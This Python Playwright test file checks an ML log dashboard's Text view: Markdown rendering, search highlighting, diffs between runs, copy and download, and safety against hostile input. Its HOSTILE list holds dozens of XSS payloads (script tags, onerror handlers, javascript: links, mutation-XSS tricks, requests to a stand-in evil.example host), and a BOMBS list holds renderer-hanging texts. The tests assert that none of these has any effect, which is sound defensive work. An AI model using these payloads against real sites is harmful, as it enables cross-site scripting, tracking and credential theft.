"""The Text view: every text that was logged can be read, and none of them can do anything."""

from __future__ import annotations

import io
import re
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from glassboard.demo.data import CLASS_NAMES
from glassboard.testing import records
from glassboard.testing.logdir import LogdirBuilder

from .board import Board, OpenLog
from .project import Project

NOTES = "mistakes/notes"

# Each would set `window.harmed`, open a dialog or send a request where the page let it.
HOSTILE = [
    "<script>window.harmed = 1; alert(1)</script>",
    "<img src=x onerror=\"window.harmed = 1; fetch('http://evil.example/')\">",
    "<img src=http://evil.example/pixel.png>",
    "![pixel](http://evil.example/pixel.png)",
    "![x](x\"onerror=\"window.harmed=1)",
    "<svg onload=window.harmed=1><script>window.harmed=1</script></svg>",
    "<svg><animate onbegin=window.harmed=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>parent.harmed=1</script></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
    "<math href=\"javascript:window.harmed=1\">click</math>",
    "<iframe src=\"javascript:parent.harmed=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.harmed=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.harmed=1</script>\"></object>",
    "<embed src=http://evil.example/>",
    "<a href=\"javascript:window.harmed=1\">click</a>",
    "[click](javascript:window.harmed=1)",
    "[click](JaVaScRiPt&colon;window.harmed=1)",
    "[click](data:text/html,<script>window.harmed=1</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:window.harmed=1>",
    "<div onmouseover=window.harmed=1 style=\"position:fixed;inset:0\">all over the page</div>",
    "<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/y) }</style>",
    "<link rel=stylesheet href=http://evil.example/z.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<form action=http://evil.example/><input name=password autofocus onfocus=window.harmed=1><button>Send</button></form>",
    "<details open ontoggle=window.harmed=1><summary>more</summary>text</details>",
    "<video src=http://evil.example/v autoplay onloadstart=window.harmed=1></video><audio src=x onerror=window.harmed=1>",
    "<body onload=window.harmed=1><marquee onstart=window.harmed=1>moving</marquee>",
    "<input type=image src=x onerror=window.harmed=1><select autofocus onfocus=window.harmed=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.harmed=1>\"></noscript>",
    "<template><script>window.harmed=1</script></template>",
    "<x-y is=a onclick=window.harmed=1 id=app name=body class=page>named like a part of the page</x-y>",
    "`</code><script>window.harmed=1</script>`",
    "```\"><script>window.harmed=1</script>\n</pre><img src=x onerror=window.harmed=1>\n```",
    "| <img src=x onerror=window.harmed=1> | b |\n|---|---|\n| <script>window.harmed=1</script> | d |",
    "<p><b><i>never closed <table><tr><td><script>window.harmed=1",
    "\x00<scr\x00ipt>window.harmed=1</script> \u202e <\uff53cript>",
    "<svg/onload=window.harmed=1>",
    "<svg><foreignObject><iframe src=javascript:parent.harmed=1></iframe></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=window.harmed=1></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.harmed=1>",
    "<a href=\"java\tscript:window.harmed=1\">click</a>",
    "<a href=\"&#106;avascript:window.harmed=1\">click</a>",
    "<a href=\"blob:http://localhost/x\">click</a>",
    "<a href=\"file:///etc/passwd\">click</a>",
    "<a href=//evil.example/>click</a>",
    "[click]: javascript:window.harmed=1\n\n[click]",
    "![click](data:image/svg+xml,<svg/onload=parent.harmed=1>)",
    "<img srcset='http://evil.example/a 1x' src=x onload=window.harmed=1>",
    "<picture><source srcset=http://evil.example/b><img src=x></picture>",
    "<table background=http://evil.example/d><tr><td background=http://evil.example/e>x</td></tr></table>",
    "<p style=\"background:url(http://evil.example/f)\">styled</p>",
    "<link rel=preload as=image href=http://evil.example/g><link rel=dns-prefetch href=//evil.example>",
    "<button formaction=javascript:window.harmed=1>press</button><isindex action=javascript:window.harmed=1>",
    "<dialog open onclose=window.harmed=1>in the way</dialog><div popover id=pop>p</div>",
    "<div id=app class='view page modal formula block'>passes for a part of the page</div>",
    "<code class='language-python hljs-title' data-piece=0>x</code><p data-piece=0>y</p>",
    "<slot name=x onslotchange=window.harmed=1></slot><portal src=http://evil.example/i></portal>",
    "<![CDATA[<img src=x onerror=window.harmed=1>]]><!--><img src=x onerror=window.harmed=1>-->",
    "$\\href{javascript:window.harmed=1}{click}$ $\\url{javascript:window.harmed=1}$",
    "$\\includegraphics{http://evil.example/j.png}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlClass{page}{y}$",
    "$\\def\\a{\\a\\a}\\a$ $<img src=x onerror=window.harmed=1>$ $\\text{<script>window.harmed=1</script>}$",
    "$\\rule{999em}{999em}$ $\\kern{-99em}\\raisebox{-99em}{moved far}$",
    "```html\n<script>window.harmed=1</script><img src=x onerror=window.harmed=1>\n```",
    "```javascript\nwindow.harmed = `</code><img src=x onerror=window.harmed=1>`\n```",
    "```python class=page onload=window.harmed=1\n'<svg onload=window.harmed=1>'\n```",
]  # fmt: skip

# Elements and attributes in the texts that no Markdown needs; what may be there is named, so that nothing is forgotten.
_FOREIGN = """
(texts) => {
  const tags = new Set(`a b blockquote br code del details dd div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre s
    samp span strong sub summary sup table tbody td tfoot th thead tr u ul var`.split(/\\s+/));
  const attributes = new Set(["href", "title", "align", "colspan", "rowspan", "start", "open", "rel", "target",
    "tabindex"]);
  const foreign = [];
  for (const root of texts.querySelectorAll(".markdown")) {
    for (const element of root.querySelectorAll("*")) {
      // What the page itself made of formulas and of code: MathML without style or address, and spans of the highlighter.
      if (element.matches("span.formula, div.formula.block, .formula *, pre > code span")) {
        const inFormula = element.closest(".formula") !== null;
        const ours = inFormula
          ? element.classList.contains("formula") || element.namespaceURI.endsWith("MathML")
          : /^(hljs-[a-z_-]+( [a-z_]+_)*)?$/.test(element.className);
        const acts = [...element.attributes].some(({ name }) => /^(on|href|src|style|id|data|xlink)/.test(name));
        if (!ours || acts) foreign.push(element.outerHTML);
        continue;
      }
      if (!tags.has(element.localName)) foreign.push(element.outerHTML);
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name) || (name === "href" && !/^(https?:|mailto:)/.test(value))) foreign.push(element.outerHTML);
      }
      if (element.localName === "a" && !/noopener/.test(element.rel)) foreign.push(element.outerHTML);
    }
  }
  return foreign;
}
"""


@pytest.fixture
def watched(page: Page) -> tuple[list[str], list[str]]:
    """Dialogs that opened and addresses that were asked for."""
    dialogs: list[str] = []
    asked: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: asked.append(request.url))
    return dialogs, asked


def test_the_step_control_reaches_every_mistakes_text(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES)
    card = board.card(NOTES)
    board.toolbar.get_by_role("radio", name="One step").check()
    slider = card.get_by_role("slider", name=f"Text of {NOTES}")
    slider.press("Home")
    count = len(project.mistakes)
    assert count > 25
    for rank, mistake in enumerate(project.mistakes):
        expect(card.get_by_text(f"{rank + 1} of {count}", exact=True)).to_be_visible()
        item = card.get_by_role("listitem")
        expect(item).to_have_count(1)
        expect(item).to_contain_text(f"step {rank}")
        expect(item).to_contain_text(
            f"Validation image {mistake.image_index} (step {rank} of mistakes/characters)"
        )
        for row, label in (("predicted", mistake.predicted), ("actual", mistake.actual)):
            expect(item.get_by_role("row").filter(has_text=row)).to_contain_text(CLASS_NAMES[label])
        slider.press("ArrowRight")
    box = card.get_by_role("textbox", name="step")
    box.fill("17")
    box.press("Enter")
    expect(card.get_by_role("listitem")).to_contain_text(
        f"Validation image {project.mistakes[17].image_index} "
    )


def test_all_mistakes_can_be_read_in_one_list(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES)
    card = board.card(NOTES)
    texts = card.get_by_role("listitem")
    count = len(project.mistakes)
    expect(card).to_contain_text(f"{count} texts")
    # The newest first.
    expect(texts.first).to_contain_text(f"Validation image {project.mistakes[-1].image_index} ")
    while (before := texts.count()) < count:
        card.get_by_role("button", name="more").click()
        board.until(lambda: texts.count() > before, "more texts are shown")
    expect(texts).to_have_count(count)
    for rank, text in enumerate(reversed(texts.all())):
        expect(text).to_contain_text(f"Validation image {project.mistakes[rank].image_index} ")


def test_a_mistakes_text_and_its_image_share_the_pages_step(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES, step=5)
    board.toolbar.get_by_role("radio", name="One step").check()
    expect(board.card(NOTES)).to_contain_text(f"Validation image {project.mistakes[5].image_index} ")
    board.view("Images").click()
    card = board.card("mistakes/characters")
    expect(card).to_contain_text(f"sample 6 of {len(project.mistakes)}")
    wanted = project.images.validation_images[project.mistakes[5].image_index]
    board.until(
        lambda: (board.image_pixels(card.locator("img"))[..., 0] == wanted).all(),
        "the image of mistake 5 is shown",
    )


def test_texts_can_be_searched(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES)
    wanted = project.mistakes[2].image_index
    board.toolbar.get_by_role("searchbox", name="Find in texts").fill(f"/image \\*\\*{wanted}\\*\\*/")
    card = board.card(NOTES)
    expect(card).to_contain_text(f"1 of {len(project.mistakes)} texts")
    expect(card.get_by_role("listitem")).to_have_count(1)
    expect(card.get_by_role("listitem")).to_contain_text(f"Validation image {wanted} ")


_MARKED = """
() => [...(CSS.highlights.get("found-text") ?? [])].map((range) => range.toString()).sort()
"""


def test_what_was_searched_for_is_marked_in_the_text(tmp_path: Path, open_log: OpenLog) -> None:
    run = LogdirBuilder(tmp_path).run("a")
    run.text("note", "# Learning **rate**\n\nThe learning\nrate is $x^2$.\n\n`rate = 0.1`\n\nlearn", step=0)
    run.text("note", "nothing of the sort", step=1)
    board = open_log(tmp_path).open()
    find = board.toolbar.get_by_role("searchbox", name="Find in texts")
    card = board.card("note")
    expect(card.get_by_role("listitem")).to_have_count(2)
    assert board.page.evaluate(_MARKED) == []
    find.fill("rate learning")
    expect(card.get_by_role("listitem")).to_have_count(1)
    wanted = ["Learning", "learning", "rate", "rate", "rate"]
    board.until(lambda: board.page.evaluate(_MARKED) == wanted, "every word is marked, also in code")
    # The mark can be seen: the colour of the theme's own token.
    heading = card.get_by_role("listitem").get_by_role("heading")

    def coloured() -> int:
        pixels = np.asarray(Image.open(io.BytesIO(heading.screenshot())).convert("RGB")).reshape(-1, 3)
        return int((np.abs(pixels.astype(int) - (0xFF, 0xE0, 0x8A)).sum(axis=1) < 12).sum())

    board.until(lambda: coloured() > 200, "the words stand on the colour of what was found")
    find.fill(r"/learning\s+\**rate/")
    # In the heading one word is bold, in the paragraph a line ends between the two.
    both = ["Learning rate", "learningrate"]
    board.until(lambda: board.page.evaluate(_MARKED) == both, "across elements of one block")
    board.toolbar.get_by_role("button", name="Markdown").click()
    find.fill("**rate**")
    board.until(lambda: board.page.evaluate(_MARKED) == ["**rate**"], "in a text as it was logged")
    find.fill("")
    board.until(lambda: board.page.evaluate(_MARKED) == [], "nothing is marked where nothing is searched")


def test_markdown_is_laid_out_or_shown_as_it_was_logged(tmp_path: Path, open_log: OpenLog) -> None:
    text = (
        "# Title\n\n- **bold**\n- `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.com/)"
    )
    LogdirBuilder(tmp_path).run("a").text("note", text)
    board = open_log(tmp_path).open()
    body = board.card("note").get_by_role("listitem").first
    expect(body.get_by_role("heading", name="Title")).to_be_visible()
    expect(body.get_by_role("row")).to_have_count(2)
    link = body.get_by_role("link", name="link")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", re.compile("noopener"))
    board.toolbar.get_by_role("button", name="Markdown").click()
    expect(board.card("note").locator("pre")).to_have_text(text)


@pytest.mark.parametrize("context_options", [{}, {"bypass_csp": True}], ids=["policy", "no policy"])
def test_hostile_texts_do_nothing(
    tmp_path: Path,
    open_log: OpenLog,
    complaints: list[str],
    watched: tuple[list[str], list[str]],
    context_options: dict[str, bool],
) -> None:
    """Also in a browser that knows no content security policy, which is the second lock on the same door."""
    run = LogdirBuilder(tmp_path).run("<img src=x onerror=window.harmed=1>")
    for step, text in enumerate(HOSTILE):
        run.text("<script>window.harmed=1</script>", text, step=step)
    run.scalars("<b onmouseover=window.harmed=1>loss", [1.0])
    board = open_log(tmp_path).open(view="text")
    texts = board.page.get_by_role("list", name="Texts of")
    for count in range(20, len(HOSTILE), 20):
        expect(texts.locator(".markdown, .raw")).to_have_count(count)
        board.page.get_by_role("button", name=f", {len(HOSTILE) - count} left").click()
    expect(texts.locator(".markdown, .raw")).to_have_count(len(HOSTILE))
    # Formulas and code are laid out after the text around them.
    for laid_out in (".formula math", "pre code .hljs-string", "pre code .hljs-tag"):
        expect(texts.locator(laid_out).first).to_be_attached()
    assert texts.evaluate(_FOREIGN) == []
    # Words stay readable, and the page keeps its place above the text.
    covering = texts.locator("div").get_by_text("all over the page", exact=True).first
    assert covering.evaluate("(text) => getComputedStyle(text).position") == "static"
    covering.hover()
    # Nothing of a text reaches a place outside it, whatever it moves about.
    assert texts.locator(".markdown").evaluate_all(
        "(all) => all.every((one) => getComputedStyle(one).contain.includes('paint'))"
    )
    addresses = "(links) => links.map((link) => link.getAttribute('href') ?? 'https:')"
    for address in texts.locator(".markdown a").evaluate_all(addresses):
        assert address.startswith(("http:", "https:", "mailto:"))
    # As they were logged, in a search, and in the other places that show names.
    board.toolbar.get_by_role("button", name="Markdown").click()
    expect(texts.locator("pre.raw")).to_have_count(len(HOSTILE))
    assert texts.locator("pre.raw").all_text_contents() == HOSTILE[::-1]
    board.toolbar.get_by_role("searchbox", name="Find in texts").fill("onerror")
    expect(board.card("<script>window.harmed=1</script>")).to_contain_text(f"of {len(HOSTILE)} texts")
    board.view("Scalars").click()
    expect(board.chart("<b onmouseover=window.harmed=1>loss")).to_be_visible()
    board.hover("<b onmouseover=window.harmed=1>loss", 0)
    board.page.keyboard.press("Control+k")
    board.page.keyboard.type("onerror")
    expect(board.page.get_by_role("option", name="onerror=window.harmed").first).to_be_visible()
    dialogs, asked = watched
    assert dialogs == []
    assert board.page.evaluate("() => window.harmed") is None
    assert [url for url in asked if "evil" in url or url.endswith("/x")] == []
    if not context_options:
        # Chromium says so of every document it parses, also of the one without a window in which texts are cleaned.
        complaints[:] = [said for said in complaints if "Content Security Policy directive" not in said]


@pytest.fixture
def notes(tmp_path: Path, open_log: OpenLog) -> Board:
    """Two runs that note a formula and a piece of code at two steps."""
    logdir = LogdirBuilder(tmp_path)
    for name, rates in (("alpha", (0.1, 0.3)), ("beta", (0.1, 0.4))):
        run = logdir.run(name)
        for step, rate in enumerate(rates):
            text = f"Loss $x^2$\n\n$$\n\\frac{{1}}{{n}}\\sum_i \\ell_i\n$$\n\n```python\nlr = {rate}  # rate\n```\n\nthe end"
            run.text("note", text, step=step)
    logdir.run("alpha").text("only", "this run has it alone")
    return open_log(tmp_path)


def test_code_is_coloured_and_formulas_are_set(notes: Board) -> None:
    newest = notes.open(view="text").card("note", "alpha").get_by_role("listitem").first
    comment = newest.locator("pre code .hljs-comment")
    expect(comment).to_have_text("# rate")
    colours = [
        each.evaluate("(one) => getComputedStyle(one).color")
        for each in (comment, newest.get_by_text("the end"))
    ]
    assert colours[0] != colours[1]
    inline, block = newest.locator("span.formula math"), newest.locator("div.formula math")
    expect(inline).to_be_visible()
    # Laid out as mathematics: the exponent is raised and small, the fraction stands on two levels.
    base, exponent = (notes.place(inline.locator("msup > *").nth(part)) for part in (0, 1))
    assert exponent["y"] < base["y"]
    top, bottom = (notes.place(block.locator("mfrac > *").nth(part)) for part in (0, 1))
    assert top["y"] + top["height"] <= bottom["y"] + 1
    # The workers that laid it out came from here.
    assert notes.page.locator("[style*=position], math [style]").count() == 0


def test_code_wider_than_its_card_is_scrolled_by_the_keyboard(tmp_path: Path, open_log: OpenLog) -> None:
    LogdirBuilder(tmp_path).run("a").text(
        "note", f"```python\nx = '{'long ' * 200}'\n```\n\n```python\ny\n```"
    )
    board = open_log(tmp_path).open(view="text")
    wide, narrow = (board.card("note").locator("pre").nth(place) for place in (0, 1))
    expect(wide).to_have_attribute("tabindex", "0")
    expect(narrow).not_to_have_attribute("tabindex", re.compile(""))
    wide.focus()
    board.page.keyboard.press("ArrowRight")
    board.until(lambda: wide.evaluate("(code) => code.scrollLeft > 0"), "the code is scrolled")


def test_changes_since_the_text_before_and_between_runs(notes: Board) -> None:
    notes.open(view="text")
    card = notes.card("note", "alpha, 2 texts")
    notes.toolbar.get_by_role("radio", name="Changes").check()
    expect(card.get_by_role("status")).to_have_text("1 line added and 1 removed since step 0.")
    expect(card.locator(".removed b")).to_have_text("1")
    expect(card.locator(".added b")).to_have_text("3")
    # At the first step there is nothing before.
    slider = card.get_by_role("slider")
    slider.press("Home")
    expect(card).to_contain_text("The first text: there is none before it.")
    slider.press("End")
    # With another run at the same step; the link keeps it.
    notes.toolbar.get_by_role("combobox", name="Compared with").select_option("beta")
    expect(card.get_by_role("status")).to_have_text("1 line added and 1 removed against beta, step 1.")
    expect(card.locator(".removed b")).to_have_text("4")
    expect(notes.card("note", "beta, 2 texts")).to_contain_text("The others are compared with this run.")
    expect(notes.card("only", "alpha")).to_contain_text("beta has no texts of this tag.")
    notes.in_link("against=beta")
    notes.page.reload()
    expect(card.get_by_role("status")).to_have_text("1 line added and 1 removed against beta, step 1.")
    slider.press("Home")
    expect(card.get_by_role("status")).to_have_text("The same as beta, step 0.")


def test_a_text_is_copied_and_saved_as_it_was_logged(notes: Board) -> None:
    notes.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    newest = notes.open(view="text").card("note", "alpha").get_by_role("listitem").first
    newest.get_by_role("button", name="Copy").click()
    expect(newest.get_by_role("button", name="Copied")).to_be_visible()
    copied = notes.page.evaluate("() => navigator.clipboard.readText()")
    with notes.page.expect_download() as download:
        newest.get_by_role("button", name="Download").click()
    assert copied == Path(download.value.path()).read_text(encoding="utf-8")
    assert copied.startswith("Loss $x^2$\n")
    assert "lr = 0.3" in copied


def test_tensors_of_strings_are_tables(tmp_path: Path, open_log: OpenLog) -> None:
    run = LogdirBuilder(tmp_path).run("a")
    run.value(records.text_value("matrix", ["**a**", "b", "c", "d", "e", "f"], shape=(2, 3)))
    run.value(records.text_value("column", [f"row {i}" for i in range(5000)], shape=(5000,)))
    board = open_log(tmp_path).open(view="text")
    matrix = board.card("matrix")
    expect(matrix.get_by_role("row")).to_have_count(2)
    expect(matrix.get_by_role("cell")).to_have_count(6)
    expect(matrix.get_by_role("cell").first.locator("strong")).to_have_text("a")
    column = board.card("column")
    # By their tag: working out the roles of so many elements takes a browser seconds.
    expect(column.locator("tr")).to_have_count(1000)
    expect(column).to_contain_text("4,000 of 5,000 texts of a tensor of shape 5000 are hidden")


BOMBS = {
    "quotes": ">" * 5000 + " x",
    "tags": "<div>" * 3000 + "x",
    "lists": "\n".join(f"{'  ' * depth}- x" for depth in range(400)),
    "links": "[a](http://example.test/) " * 100_000,
    "formulas": "$x^2$ " * 50_000,
    "cells": f"|{'a|' * 90}\n|{'-|' * 90}\n" + f"|{'1|' * 90}\n" * 1100,
    "emphasis": "*a " * 50_000 + "_b **" * 20_000,
    "words": "line of a log\n" * 720_000,
    "one word": "a" * 10_000_000,
}


def test_texts_made_to_hang_the_page_are_shown_in_part(tmp_path: Path, open_log: OpenLog) -> None:
    run = LogdirBuilder(tmp_path).run("a")
    for tag, text in BOMBS.items():
        run.text(tag, text)
    board = open_log(tmp_path)
    board.page.add_init_script(
        "window.longest = 0; new PerformanceObserver((list) => {"
        " for (const task of list.getEntries()) window.longest = Math.max(window.longest, task.duration); })"
        ".observe({ entryTypes: ['longtask'] })"
    )
    board.open(view="text", v_texts="x")
    deep = "nested too deep to lay out, so it stands here as it was logged."
    for tag, text in BOMBS.items():
        # One at a time, as a person finds them.
        board.toolbar.get_by_role("searchbox", name="Filter tags").fill(f"/^{tag}/")
        card = board.card(tag)
        if tag in ("quotes", "tags"):
            expect(card).to_contain_text(deep)
            expect(card.locator("pre.raw")).to_have_text(text)
        elif tag == "lists":
            expect(card).to_contain_text("are hidden")
        else:
            expect(card).to_contain_text(
                f"of {len(text):,} characters are hidden: so long a text is laid out in part."
            )
        assert card.locator(".markdown *").count() <= 60_000
    # The whole of a long text can be had: shown on, or saved.
    card.get_by_role("button", name="Show it as it was logged").click()
    expect(card).to_contain_text("9,900,000 of 10,000,000 characters are hidden.")
    card.get_by_role("button", name="Show 100,000 more").click()
    expect(card).to_contain_text("9,800,000 of 10,000,000 characters are hidden.")
    board.becomes(lambda: len(card.locator("pre.raw").inner_text()), 200_000, "both parts are shown")
    card.get_by_role("button", name="Lay it out").click()
    expect(card.locator(".markdown")).to_be_visible()
    with board.page.expect_download() as download:
        card.get_by_role("button", name="Download").click()
    assert Path(download.value.path()).stat().st_size == 10_000_000
    # Far from a hang, also on a slow machine; parsing a bomb in the page itself takes a minute and more.
    assert board.page.evaluate("() => window.longest") < 10_000
